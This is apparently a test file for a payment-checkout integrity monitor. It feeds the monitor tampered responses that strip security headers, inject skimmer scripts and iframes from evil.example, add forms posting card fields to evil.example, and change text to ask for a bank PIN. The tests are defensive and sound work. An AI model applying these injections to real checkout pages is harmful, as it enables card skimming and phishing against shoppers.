import { createServer, type Server } from 'node:http'
import { getRequestListener } from '@hono/node-server'
import { afterEach, beforeAll, describe, expect, it } from 'vitest'
import { REFERENCE } from '#proof/testing/page/checkout.fixture.ts'
import { runCheckout } from '#proof/testing/cli/command-line.fixture.ts'
import { freePorts } from '#proof/testing/cli/server-process.fixture.ts'
import { type Answer, openDeployedSite } from '#proof/testing/cli/deployed-site.fixture.ts'
import { type ExpectedSite, openExpectedSite } from './expected-site.ts'
import { watchSite } from './watch-site.ts'

const CHECKOUT_URL = 'https://pay.example'
const FIELDS_URL = 'https://fields.example'
const SITE = { environment: 'sandbox', checkoutUrl: CHECKOUT_URL, fieldsUrl: FIELDS_URL } as const

/** Alters responses, like an attacker or a proxy. */
type Alter = (url: URL, answer: Response) => Response | Promise<Response>

let deployed: Answer
let expected: ExpectedSite
beforeAll(async () => {
  deployed = await openDeployedSite(CHECKOUT_URL, FIELDS_URL)
  expected = await openExpectedSite(SITE)
})

function watch(
  alter: Alter,
  more: { reference?: string; cardKey?: string; challengeFrameOrigins?: string[] } = {},
) {
  const fetch = async (request: Request) => alter(new URL(request.url), await deployed(request))
  return watchSite({ site: SITE, expected, fetch, allowedHeaders: [], ...more })
}

const isPage = ({ origin, pathname }: URL) => origin === CHECKOUT_URL && pathname.startsWith('/c/')
const isFrame = ({ origin }: URL) => origin === FIELDS_URL
const isScript = ({ pathname }: URL) => pathname.endsWith('.js')

const header =
  (where: (url: URL) => boolean, name: string, value: string | null): Alter =>
  (url, answer) => {
    if (!where(url)) return answer
    if (value === null) answer.headers.delete(name)
    else answer.headers.set(name, value)
    return answer
  }
const policy =
  (where: (url: URL) => boolean, from: string, to: string): Alter =>
  (url, answer) => {
    const text = answer.headers.get('content-security-policy') ?? ''
    expect(!where(url) || text.includes(from)).toBe(true)
    return header(where, 'content-security-policy', text.replace(from, to))(url, answer)
  }
const body =
  (where: (url: URL) => boolean, from: string | RegExp, to: string): Alter =>
  async (url, answer) => {
    if (!where(url)) return answer
    const text = await answer.text()
    expect(text).toMatch(from)
    return new Response(text.replace(from, to), answer)
  }

const MUTATIONS: Record<string, Alter> = {
  'the policy is taken away': header(isPage, 'content-security-policy', null),
  'the policy only reports': (url, answer) => {
    const text = answer.headers.get('content-security-policy') ?? ''
    void header(isPage, 'content-security-policy-report-only', text)(url, answer)
    return header(isPage, 'content-security-policy', null)(url, answer)
  },
  'the policy allows inline scripts': policy(isPage, 'script-src ', "script-src 'unsafe-inline' "),
  'the policy allows an origin for scripts': policy(
    isPage,
    'script-src ',
    'script-src https://cdn.evil.example ',
  ),
  'the policy allows to connect elsewhere': policy(isPage, "connect-src 'self'", 'connect-src *'),
  'the policy allows to frame others': policy(isPage, "frame-src 'none'", 'frame-src *'),
  'the policy lets others frame the page': policy(
    isPage,
    "frame-ancestors 'none'",
    'frame-ancestors *',
  ),
  'the policy lets forms lead elsewhere': policy(isPage, "form-action 'self'", 'form-action *'),
  'the policy has no Trusted Types': policy(isPage, "; require-trusted-types-for 'script'", ''),
  'the policy reports elsewhere': policy(
    isPage,
    'report-uri /reports',
    'report-uri https://evil.example',
  ),
  'HSTS is taken away': header(isPage, 'strict-transport-security', null),
  'HSTS is short': header(isPage, 'strict-transport-security', 'max-age=300'),
  'COOP is taken away': header(isPage, 'cross-origin-opener-policy', null),
  'nosniff is taken away from scripts': header(isScript, 'x-content-type-options', null),
  'the page may be kept': header(isPage, 'cache-control', 'public, max-age=600'),
  'the page says where it is': header(isPage, 'referrer-policy', 'unsafe-url'),
  'other sites may read': header(isPage, 'access-control-allow-origin', '*'),
  'a header preloads a script': header(
    isPage,
    'link',
    '<https://evil.example/a.js>; rel=preload; as=script',
  ),
  'a header leads away': header(isPage, 'refresh', '0;url=https://evil.example'),
  'a cookie is set': header(isPage, 'set-cookie', 'track=1'),
  'one byte of a script is another': body(isScript, 'a', 'b'),
  'a script is longer': body(isScript, /$/, '\nfetch("https://evil.example")'),
  'a script has another type': header(isScript, 'content-type', 'text/plain'),
  'a script is gone': (url, answer) =>
    isScript(url) ? new Response(null, { status: 404 }) : answer,
  'a script is added': body(
    isPage,
    '</body>',
    '<script src="https://evil.example/skim.js"></script></body>',
  ),
  'an inline script is added': body(isPage, '<style>', '<script>steal()</script><style>'),
  'an inline script is another': body(isPage, '<script>', '<script>steal();'),
  'the import map is another': body(isPage, 'sha384-', 'sha384-x'),
  'the integrity is taken away': body(isPage, / integrity="[^"]+"/, ''),
  'a frame is injected': body(
    isPage,
    '</body>',
    '<iframe src="https://evil.example"></iframe></body>',
  ),
  'a base is injected': body(isPage, '<meta ', '<base href="https://evil.example/"><meta '),
  'a refresh is injected': body(
    isPage,
    '<meta ',
    '<meta http-equiv="refresh" content="0;url=//evil.example"><meta ',
  ),
  'a form is injected': body(
    isPage,
    '</body>',
    '<form action="https://evil.example"></form></body>',
  ),
  'a handler is injected': body(isPage, '<div id="root">', '<div id="root" onclick="steal()">'),
  'a style is injected': body(isPage, '</head>', '<style>#root{display:none}</style></head>'),
  'words are others': body(isPage, /<h1([^>]*)>[^<]+/, '<h1$1>Call us to pay'),
  'the page is somewhere else': (url, answer) =>
    isPage(url) ? Response.redirect('https://evil.example/', 302) : answer,
  'the page does not come': (url, answer) => {
    if (isPage(url)) throw new TypeError('fetch failed')
    return answer
  },
  "the frame's policy lets others frame it": policy(
    isFrame,
    `frame-ancestors ${CHECKOUT_URL}`,
    'frame-ancestors *',
  ),
  "the frame's policy allows to connect": policy(
    isFrame,
    "default-src 'none'",
    "default-src 'none'; connect-src *",
  ),
  "the frame's policy is taken away": header(isFrame, 'content-security-policy', null),
  "the frame's script is another": body(isFrame, /<script>/, '<script>steal();'),
  'the frame speaks to another page': body(isFrame, CHECKOUT_URL, 'https://pay.evil.example'),
  'the frame has a form that leads away': body(
    isFrame,
    '<form',
    '<form action="https://evil.example"',
  ),
  'the frame has a form more': body(
    isFrame,
    '</body>',
    '<form action="https://evil.example"><input name="card"></form></body>',
  ),
  "the frame's words are others": body(isFrame, /<label([^>]*)>[^<]+/, '<label$1>PIN of your bank'),
}

describe('S-46 S-47: the monitor', () => {
  it('finds nothing on an unchanged site', async () => {
    const { findings, addresses, cardKey } = await watch((_url, answer) => answer)
    expect(findings).toEqual([])
    expect(addresses).toContain(`${CHECKOUT_URL}/c/monitor`)
    expect(addresses.filter((url) => url.endsWith('.js'))).toHaveLength(
      expected.inventory.filter(({ path }) => path.startsWith('/')).length,
    )
    expect(cardKey).toMatch(/^[\w-]{43}$/)
  })

  it.each(Object.entries(MUTATIONS))('finds: %s', async (_name, alter) => {
    const { findings } = await watch(alter)
    expect(findings).not.toEqual([])
  })

  it('reports the expected and the actual value, and the URL', async () => {
    const { findings } = await watch(MUTATIONS['a frame is injected'] ?? (() => Response.error()))
    expect(findings).toEqual([
      {
        url: `${CHECKOUT_URL}/c/monitor`,
        what: 'part of the document',
        expected: null,
        found: '<iframe src="https://evil.example">',
      },
    ])
  })

  it('ignores headers that proxies add', async () => {
    const { findings } = await watch((_url, answer) => {
      for (const [name, value] of Object.entries({ age: '3', via: '1.1 edge', server: 'edge' }))
        answer.headers.set(name, value)
      answer.headers.append('vary', 'Origin')
      return answer
    })
    expect(findings).toEqual([])
  })

  it('finds another card encryption key than the expected one', async () => {
    const { cardKey } = await watch((_url, answer) => answer)
    expect((await watch((_url, answer) => answer, { cardKey: cardKey ?? '' })).findings).toEqual([])
    const other = body(isFrame, /"n":"./, '"n":"A')
    expect((await watch(other, { cardKey: cardKey ?? '' })).findings).toMatchObject([
      { what: 'key to which cards are encrypted', expected: cardKey },
    ])
  })

  describe('S-162: where the key says how a card is sealed', () => {
    const sealing = {
      scheme: 'adyen-jwe',
      alg: 'RSA-OAEP',
      enc: 'A256CBC-HS512',
      header: { version: '1' },
    } as const
    const watchSealing = async (alter: Alter) => {
      const served = await openDeployedSite(CHECKOUT_URL, FIELDS_URL, sealing)
      const fetch = async (request: Request) => alter(new URL(request.url), await served(request))
      const site = { site: SITE, expected, fetch, allowedHeaders: [] }
      return (await watchSite({ ...site, reference: REFERENCE })).findings
    }

    it('finds nothing on an unchanged site', async () => {
      expect(await watchSealing((_url, answer) => answer)).toEqual([])
    })

    it.each(
      Object.entries({
        'the script is another': body(isFrame, /<script>(?!.*<script>)/s, '<script>steal();'),
        'the other script is served with it': body(isFrame, /,"sealing":\{.*?\}\}/, ''),
        'its sealing has a member more': body(isFrame, '"scheme":', '"to":1,"scheme":'),
        'the policy lets the other script run': policy(
          isFrame,
          "'sha256-",
          "'sha256-AA=' 'sha256-",
        ),
      }),
    )('finds: %s', async (_name, alter) => {
      expect(await watchSealing(alter)).not.toEqual([])
    })
  })

  describe('on the page of a session', () => {
    const isSession = ({ pathname }: URL) => pathname === `/c/${REFERENCE}`
    it('finds nothing on an unchanged site', async () => {
      const { findings, addresses } = await watch((_url, answer) => answer, {
        reference: REFERENCE,
      })
      expect(findings).toEqual([])
      expect(addresses).toContain(`${FIELDS_URL}/card/${REFERENCE}/en`)
    })

    it('S-130: finds frames of a challenge that the processor does not list', async () => {
      const origin = 'https://acs.bank.example'
      const own = `frame-src ${FIELDS_URL}/card/${REFERENCE}/`
      const back = `${CHECKOUT_URL}/c/${REFERENCE}/challenge-return`
      const listing = policy(isSession, own, `${own} ${origin} ${back}`)
      const listed = { reference: REFERENCE, challengeFrameOrigins: [origin] }
      expect((await watch(listing, listed)).findings).toEqual([])
      expect((await watch((_url, answer) => answer, listed)).findings).toEqual([])
      const other = policy(isSession, own, `${own} ${origin} https://evil.example ${back}`)
      for (const alter of [other, policy(isSession, own, `${own} https:`)])
        expect((await watch(alter, listed)).findings).toMatchObject([
          { what: 'header content-security-policy' },
        ])
      expect((await watch(listing, { reference: REFERENCE })).findings).not.toEqual([])
    })

    it('S-111: finds nothing where the frame of an ended session is the page of text', async () => {
      const ended: Alter = async (url, answer) => {
        if (!isOwnFrame(url)) return answer
        const text = await deployed(new Request(`${FIELDS_URL}/card/none/en`))
        return new Response(text.body, { status: 409, headers: text.headers })
      }
      expect((await watch(ended, { reference: REFERENCE })).findings).toEqual([])
      const altered: Alter = async (url, answer) =>
        body(
          isOwnFrame,
          '</body>',
          '<script>steal()</script></body>',
        )(url, await ended(url, answer))
      expect((await watch(altered, { reference: REFERENCE })).findings).not.toEqual([])
    })

    const isOwnFrame = ({ pathname }: URL) => pathname.startsWith(`/card/${REFERENCE}/`)
    it.each(
      Object.entries({
        'a script is added': body(isOwnFrame, '</body>', '<script>steal()</script></body>'),
        'words are others': body(isOwnFrame, /<label([^>]*)>[^<]+/, '<label$1>PIN of your bank'),
        'the policy allows to connect': policy(
          isOwnFrame,
          "default-src 'none'",
          "default-src 'none'; connect-src *",
        ),
        'it speaks to another page': body(isOwnFrame, CHECKOUT_URL, 'https://pay.evil.example'),
        'it has another key than the frame without a session': body(isOwnFrame, /"n":"./, '"n":"A'),
        'its data has a member more': body(
          isOwnFrame,
          '{"checkoutOrigin"',
          '{"to":1,"checkoutOrigin"',
        ),
        'it seals for no session': body(isOwnFrame, /,"session":\{.*\}\}</, '}<'),
        'it is not served': (url: URL, answer: Response) =>
          isOwnFrame(url) ? new Response(null, { status: 404 }) : answer,
      }),
    )("S-111: finds in the session's own frame: %s", async (_name, alter) => {
      const { findings } = await watch(alter, { reference: REFERENCE })
      expect(findings).not.toEqual([])
      expect(new Set(findings.map(({ url }) => url))).toEqual(
        new Set([`${FIELDS_URL}/card/${REFERENCE}/en`]),
      )
    })

    it.each(
      Object.entries({
        'a script is added': body(
          isSession,
          '</body>',
          '<script src="//evil.example/a.js"></script></body>',
        ),
        'an inline script is another': body(isSession, '<script>', '<script>steal();'),
        'a frame is injected': body(
          isSession,
          '</body>',
          '<iframe src="https://evil.example/card/en"></iframe></body>',
        ),
        'a card frame of another session is injected': body(
          isSession,
          '</body>',
          `<iframe src="${FIELDS_URL}/card/${REFERENCE.toLowerCase()}/en"></iframe></body>`,
        ),
        'the policy allows card frames of all sessions': policy(
          isSession,
          `frame-src ${FIELDS_URL}/card/${REFERENCE}/`,
          `frame-src ${FIELDS_URL}`,
        ),
        'a frame has a document of its own': body(
          isSession,
          '</body>',
          `<iframe src="${FIELDS_URL}/card/${REFERENCE}/en" srcdoc="x"></iframe></body>`,
        ),
        'a form does something': body(
          isSession,
          '</body>',
          '<form onsubmit="steal()"></form></body>',
        ),
        'a form leads away': body(
          isSession,
          '</body>',
          '<form action="https://evil.example"></form></body>',
        ),
        'a refresh is injected': body(
          isSession,
          '<meta ',
          '<meta http-equiv="refresh" content="0;url=//evil.example"><meta ',
        ),
        'the policy allows more': policy(isSession, "connect-src 'self'", 'connect-src *'),
        'a style has a hash and no place': policy(
          isSession,
          'style-src ',
          "style-src 'sha256-AAAA' ",
        ),
      }),
    )('finds: %s', async (_name, alter) => {
      expect((await watch(alter, { reference: REFERENCE })).findings).not.toEqual([])
    })
  })
})

describe('checkout monitor', () => {
  const servers: Server[] = []
  afterEach(() => {
    for (const server of servers.splice(0)) server.close().closeAllConnections()
  })

  async function serve(alter: Alter): Promise<Record<string, string>> {
    const { CHECKOUT_PORT, FIELDS_PORT } = await freePorts('CHECKOUT_PORT', 'FIELDS_PORT')
    const [checkoutUrl, fieldsUrl] = [CHECKOUT_PORT, FIELDS_PORT].map(
      (port) => `http://localhost:${port}`,
    )
    const site = await openDeployedSite(checkoutUrl ?? '', fieldsUrl ?? '')
    const listener = getRequestListener(async (request) =>
      alter(new URL(request.url), await site(request)),
    )
    for (const port of [CHECKOUT_PORT, FIELDS_PORT]) {
      const server = createServer((request, response) => void listener(request, response))
      servers.push(server)
      await new Promise<void>((resolve) => server.listen(Number(port), 'localhost', resolve))
    }
    return { CHECKOUT_PORT, FIELDS_PORT }
  }

  it('S-47: ends with 0 and the number of pages on an unchanged site', async () => {
    const variables = await serve((_url, answer) => answer)
    const { exitCode, stdout, stderr } = await runCheckout('monitor', variables)
    expect({ exitCode, stdout }).toEqual({ exitCode: 0, stdout: '' })
    expect(stderr).toMatch(/\d+ addresses are as they were built/)
  })

  it('S-47: ends with 1 and the weakened header', async () => {
    const variables = await serve(
      header(({ pathname }) => pathname.startsWith('/c/'), 'x-frame-options', null),
    )
    const { exitCode, stdout } = await runCheckout('monitor', variables)
    expect(exitCode).toBe(1)
    expect(stdout).toContain('header x-frame-options\n    should be  DENY\n    is         nothing')
    const inJson = await runCheckout('monitor --json', variables)
    expect(inJson.exitCode).toBe(1)
    expect(JSON.parse(inJson.stdout)).toMatchObject({
      ok: false,
      findings: [{ what: 'header x-frame-options', expected: 'DENY', found: null }],
    })
  })

  it('R-81: compares in production, too', async () => {
    const site = { ...SITE, environment: 'production' } as const
    const built = await openExpectedSite(site)
    const fetch = async (request: Request) =>
      request.url.startsWith(FIELDS_URL) ? built.frame(request) : built.page(request)
    const { findings } = await watchSite({ site, expected: built, fetch, allowedHeaders: [] })
    expect(findings).toEqual([])
    const { exitCode, stdout, stderr } = await runCheckout('monitor', {
      CHECKOUT_ENVIRONMENT: 'production',
      CHECKOUT_URL: 'https://pay.invalid',
      FIELDS_URL: 'https://fields.invalid',
    })
    expect(stderr).not.toMatch(/baseUrl|:\d+:\d+\)/)
    expect(stdout).toContain('https://pay.invalid/')
    expect(exitCode).toBe(1)
  })

  it.each([
    ['monitor --every 0', {}, 64],
    ['monitor', { CHECKOUT_ENVIRONMENT: 'production', CHECKOUT_URL: 'https://pay.example' }, 78],
  ])('%s with %j ends with %i', async (line, variables, code) => {
    const { exitCode, stderr } = await runCheckout(line, variables)
    expect(exitCode).toBe(code)
    expect(stderr).toMatch(/--every|FIELDS_URL: is required in production/)
  })
})
